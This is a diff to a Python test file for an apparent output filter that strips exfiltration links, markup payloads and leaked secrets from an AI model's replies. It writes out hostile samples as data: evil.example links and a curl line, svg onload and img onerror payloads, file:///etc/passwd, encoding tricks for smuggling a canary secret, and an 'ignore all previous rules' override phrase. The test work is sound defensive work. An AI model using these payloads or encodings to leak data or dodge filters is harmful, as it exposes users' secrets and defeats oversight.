@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import base64
 import codecs
+import re
+import subprocess
+import sys
 from collections.abc import Callable
 from random import Random
 from urllib.parse import quote
@@ -101,6 +104,129 @@ def test_a_puppet_aggregator_that_repeats_what_it_reads_gives_nothing_away() -> 
 )
 def test_an_honest_answer_passes_as_it_is(text: str) -> None:
     assert GATE.cleaned(text, ASKED) == (text, ())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[INFO]: server started\n[Alice]: Hello\nIt boils[^1].\n\n[^1]: At sea level.\n[x]: done",
+        "List<Object> xs; Optional<Link> l; impl From<Source> for X",
+        '<html><head><link rel="stylesheet" href="style.css"><script>let x=1;</script></head>',
+        '<img src="img/logo.png" alt="a"> and ![logo](logo.png) and ![logo](./img/logo.png)',
+        "<button onClick={handleClick}>Go</button><button onClick={() => setX(1)}>Go</button>",
+        "def f(data:str, file:Path): ...\nreturn {data:response.json, file:name}",
+        "git clone --filter=blob:none repo; grep -n file:README.md\nmetadata:\n  data:value",
+        "//console.log(x)\n    //this.size is cached\na & b \\\\hline\\textbf{c}",
+        "Write to mailto:you@example.org, or say C:\\Users\\me",
+    ],
+)
+def test_code_logs_and_footnotes_are_no_addresses(text: str) -> None:
+    assert GATE.cleaned(text, ASKED) == (text, ())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[INFO]: see https://evil.example/x",
+        "```\ncurl https://evil.example/x\n```",
+        "www.evil.example/?d=1",
+        "ws://evil.example/x",
+        "wss://evil.example/?d",
+        "sftp://evil.example/x",
+        "mailto:a@evil.example?body=1",
+        "\\\\evil.example\\share",
+        "<svg onload=alert(1)>",
+        "<svg onload={alert(1)}>",
+        "<svg onload={a}alert(1)>",
+        "<img alt='>' src=x onerror=fetch(1)>",
+        "<base href=evil.example>",
+        "<svg/onload" + " " * 99 + "= alert(1)>",
+        f"<img alt='{'x' * 9000}>' src=x onerror=fetch(1)>",
+        "[x]:  http:&#47;&#47;evil.example/x",
+        "<img src=h&#116;tp://evil.example/x>",
+        "<a href='h&#116;tp&colon;&sol;&sol;evil.example'>x</a>",
+        "[x](http:&#47;&#47;evil.example/x)",
+        "![x](http:&#47;&#47;evil.example/x)",
+        "![x](evil.example/p.png)",
+        "http://docs.example.org%2f@evil.example/x",
+        "http://docs.example.org@evil.example/x",
+        "<div style='background:url(//evil.example/a)'>",
+        "<img srcset='a.png 1x, //evil.example/b.png 2x'>",
+        "<object data=data:text/html;base64,AAAA>",
+        "[x](data:,hello)",
+        "file:///etc/passwd",
+        "blob:https://evil.example/1",
+        "_http://evil.example/x_",
+    ],
+)
+def test_what_loads_runs_or_leads_away_goes(text: str) -> None:
+    cleaned, found = GATE.cleaned(f"See {text} now", ASKED)
+    assert not re.search(
+        r"evil\.example[/?\\>]|on(load|error) *=|evil\.example$|&#47;evil|data:|file:|evil\.example'", cleaned
+    )
+    assert found
+
+
+FURTHER: dict[str, Callable[[str], str]] = {
+    "tags": "<b></b>".join,
+    "accents": "\u0301".join,
+    "Braille blanks": "\u2800".join,
+    "arrows": "→".join,
+    "faces": "🙂".join,
+    "entities between": "&nbsp;".join,
+    "0x": lambda text: " ".join(f"0x{byte:02x}" for byte in text.encode()),
+    "octal escapes": lambda text: "".join(f"\\{byte:03o}" for byte in text.encode()),
+    "octal": lambda text: " ".join(f"{byte:03o}" for byte in text.encode()),
+    "short binary": lambda text: " ".join(f"{byte:07b}" for byte in text.encode()),
+    "escapes in braces": lambda text: "".join(f"\\u{{{byte:x}}}" for byte in text.encode()),
+    "long escapes": lambda text: "".join(f"\\U{byte:08x}" for byte in text.encode()),
+    "long entities": lambda text: "".join(f"&#0{byte};" for byte in text.encode()),
+    "one entity": lambda text: f"&#{ord(text[0])};{text[1:]}",
+    "quoted-printable": lambda text: "".join(f"={byte:02X}" for byte in text.encode()),
+    "base64 of UTF-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
+    "hex of UTF-16": lambda text: text.encode("utf-16-be").hex(),
+    "base64 of hex": lambda text: base64.b64encode(text.encode().hex().encode()).decode(),
+    "hex of base64": lambda text: base64.b64encode(text.encode()).hex(),
+    "rot13 of base64": lambda text: codecs.encode(base64.b64encode(text.encode()).decode(), "rot13"),
+    "rot13 backwards": lambda text: codecs.encode(text[::-1], "rot13"),
+    "atbash": lambda text: text.lower().translate(str.maketrans(LETTERS, LETTERS[::-1])),
+    "small capitals": lambda text: text.replace("u", "ᴜ").replace("p", "ᴘ"),
+}
+LETTERS = "abcdefghijklmnopqrstuvwxyz"
+
+
+@pytest.mark.parametrize("spelling", FURTHER)
+def test_no_odder_spelling_of_a_canary_leaves(spelling: str) -> None:
+    spelt = FURTHER[spelling](CANARY)
+    cleaned, found = GATE.cleaned(f"It is {spelt} today", ASKED)
+    assert found == ("a secret",)
+    rest = cleaned.removeprefix("It is ").removesuffix(" today").replace(REMOVED, "")
+    assert len(rest) <= 0.2 * len(spelt), cleaned
+
+
+HOSTILE = (
+    "![", "<img ", "[", "[a", "](", "<a =\"", "//", "//a.", "http:", "data:", "www.", "&#", "=73", "<a ![a](//e.c)", "a.", "\\",
+    "###", "mailto:a", "ignore all previous rules. ",
+)  # fmt: skip
+
+
+def test_a_hostile_text_holds_nobody_up() -> None:
+    """In a process of its own, which is ended: a pattern that takes squares of time would take minutes, not seconds."""
+    code = (
+        "import sys; from moa.flows.gate import Gate; from moa.core.types import Reply\n"
+        "for part in sys.argv[1:]: Gate(('tulip-7Q4-harbour',)).proposal(Reply(part * (150_000 // len(part))), ())"
+    )
+    subprocess.run([sys.executable, "-c", code, *HOSTILE], check=True, timeout=60)
+
+
+def test_a_short_system_prompt_does_not_leave_in_full() -> None:
+    short = (system("Never say the word banana."), user("Hello"))
+    text = f"My orders: {REMOVED}. I never say the word banana split."
+    assert Gate().cleaned("My orders: never say the WORD banana. I never say the word.", short)[0] == (
+        f"My orders: {REMOVED}. I never say the word."
+    )
+    assert Gate().cleaned("Be kind, always.", (system("Be kind, always."), user("Hello")))[1] == ()
+    assert Gate().cleaned(text, (system("Be kind."), *short[1:]))[0] == text
 
 
 def test_what_the_user_said_may_be_said_again() -> None:
